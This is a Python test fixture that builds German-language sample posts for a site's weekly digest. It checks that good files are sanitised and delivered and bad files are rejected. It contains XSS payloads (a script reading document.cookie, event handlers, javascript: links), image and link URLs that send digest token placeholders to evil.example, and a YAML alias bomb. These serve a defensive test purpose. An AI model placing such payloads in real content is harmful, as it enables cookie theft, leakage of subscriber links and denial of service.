"""A corpus of hostile, broken and big content files for the sample site's week.

:func:`write_corpus` adds them to a site's ``content/`` folder, dated inside the week that
ends on Monday 20 November 2017 (the period of ``AT``). The good ones must reach every reader
(cleaned where they needed it); each bad one must be named and left out, and nothing in any of
them may reach another reader's data.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.conftest import Site

DATE = "2017-11-15T10:00:00+01:00"
PLACEHOLDER_TEXTS = (
    "__digest_greeting__",
    "__digest_unsubscribe_url__",
    "__digest_preferences_url__",
)


@dataclass(frozen=True)
class Bad:
    file: str
    reason: str  # a fragment of the message that names the file


def _front(title: str, date: str = DATE, extra: str = "") -> str:
    return f'---\ntitle: "{title}"\ndate: {date}\n{extra}---\n'


def write_corpus(site: Site, big_mb: float = 10) -> tuple[list[str], list[Bad]]:
    """Write the corpus; returns the titles that must be sent and the files that must be
    named as bad."""
    good: dict[str, str] = {}
    good["hostile-01-controls.md"] = (
        _front("Steuerzeichen im Text")
        + "Eins\x01 zwei\x0b drei\x1b[31m vier\ufffe fünf\x7f sechs\x85 sieben.\n"
    )
    placeholders = " ".join(PLACEHOLDER_TEXTS)
    good["hostile-02-placeholders.md"] = (
        _front("Platzhalter im Inhalt")
        + f'<img src="https://evil.example/p.gif?p=__digest_preferences_url__" alt="x">\n\n'
        f"Text: {placeholders}\n\n"
        "[Link](https://evil.example/?u=__digest_unsubscribe_url__)\n\n"
        "&#95;_digest_greeting__ and &#x5f;&#x5f;digest_preferences_url__\n"
    )
    good["hostile-03-scripts.md"] = (
        _front("Skripte und Ereignisse") + "<script>alert(document.cookie)</script>\n\n"
        '<p onclick="alert(1)" style="position:fixed">Klick</p>\n\n'
        '<a href="javascript:alert(1)">js</a> <iframe src="https://evil.example/"></iframe>\n\n'
        '<img src="x" onerror="alert(1)" alt="broken">\n'
    )
    good["hostile-04-wide-images.md"] = (
        _front("Breite Bilder")
        + "![Ein sehr breites Bild](https://www.example.org/media/wide-3000.png)\n\n"
        '<img src="https://www.example.org/media/wide-1200.png" width="1200" height="400" '
        'alt="1200 Pixel breit">\n'
    )
    good["hostile-05-long-pre.md"] = (
        _front("Lange Zeilen")
        + "```\n"
        + "x = '"
        + "a" * 400
        + "'\n```\n\n"
        + "EinWortOhneLeerzeichen" * 20
        + "\n\nhttps://www.example.org/"
        + "sehr-lang/" * 30
        + "\n"
    )
    good["hostile-06-tables.md"] = (
        _front("Tabellen")
        + "| "
        + " | ".join(f"Spalte {n}" for n in range(8))
        + " |\n|"
        + "---|" * 8
        + "\n| "
        + " | ".join("Zelleninhalt" * 4 for _ in range(8))
        + " |\n\n"
        "<table><tr><td>" + "breit " * 200 + "</td><td>b</td></tr></table>\n"
    )
    paragraph = "Ein Absatz mit etwas Text, der die Meldung sehr lang macht. " * 20 + "\n\n"
    good["hostile-07-big.md"] = _front("Ein sehr langer Beitrag") + paragraph * int(
        big_mb * 1_000_000 / len(paragraph.encode())
    )
    good["hostile-08-long-title.md"] = _front("Überlang " * 60)

    bad = [
        Bad("hostile-20-impossible-date.md", "'2017-11-31' is not a date"),
        Bad("hostile-21-alias-bomb.md", "YAML alias *a0 is not allowed in front matter"),
        Bad("hostile-22-not-utf8.md", "not UTF-8 text"),
    ]
    bomb = "a0: &a0 [x]\n" + "".join(
        f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10)
    )
    files = {
        **good,
        bad[0].file: _front("Unmögliches Datum", date="2017-11-31") + "Text\n",
        bad[1].file: "---\ntitle: Bombe\ndate: 2017-11-15\n" + bomb + "---\nText\n",
    }
    for name, text in files.items():
        (site.content / name).write_text(text, encoding="utf-8")
    (site.content / bad[2].file).write_bytes(
        _front("Latin-1").encode() + "Stra\xdfe\n".encode("latin-1")
    )
    titles = [
        "Steuerzeichen im Text",
        "Platzhalter im Inhalt",
        "Skripte und Ereignisse",
        "Breite Bilder",
        "Lange Zeilen",
        "Tabellen",
        "Ein sehr langer Beitrag",
        ("Überlang " * 60).strip(),
    ]
    return titles, bad
